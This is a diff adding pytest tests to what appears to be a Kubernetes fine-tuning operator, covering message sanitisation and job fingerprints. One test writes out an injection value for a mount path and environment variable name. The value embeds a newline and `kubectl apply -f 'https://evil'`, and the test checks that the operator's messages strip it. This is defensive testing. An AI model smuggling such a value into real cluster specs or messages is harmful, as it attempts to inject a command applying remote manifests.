@@ -283,6 +283,27 @@ def test_no_addition_of_admission_hides_what_the_trainer_would_do(admitted: list
 
 
 @pytest.mark.row("R72")
+def test_what_somebody_calls_a_mount_or_a_variable_cannot_pass_for_a_command() -> None:
+    name = "/x\n\nto go on: kubectl apply -f 'https://evil';" + "y" * 5000
+    specs = [
+        changed(lambda s: trainer(s)["volumeMounts"].append({"name": "evil", "mountPath": name})),
+        changed(lambda s: trainer(s)["env"].append({"name": name, "value": "1"})),
+    ]
+    for spec in specs:
+        for words in (difference(spec, spec_of(job(**MARK))) or "", additions(spec, spec_of(job(**MARK)))):
+            assert words
+            assert len(words) < 150
+            assert not any(sign in words for sign in "\n;")
+
+
+@pytest.mark.row("R97")
+def test_labels_that_somebody_gives_the_job_itself_leave_its_fingerprint_as_it_is() -> None:
+    made = job(**MARK)
+    made["metadata"]["labels"] = {"finetune-operator.io/nonce": "n2"}
+    assert fingerprint(made) == fingerprint(job(**MARK))
+
+
+@pytest.mark.row("R72")
 def test_what_admission_added_is_told() -> None:
     message = additions(all_of([TOLERATED["a sidecar"], TOLERATED["a native sidecar"], TOKEN]), spec_of(job(**MARK)))
     assert message == (
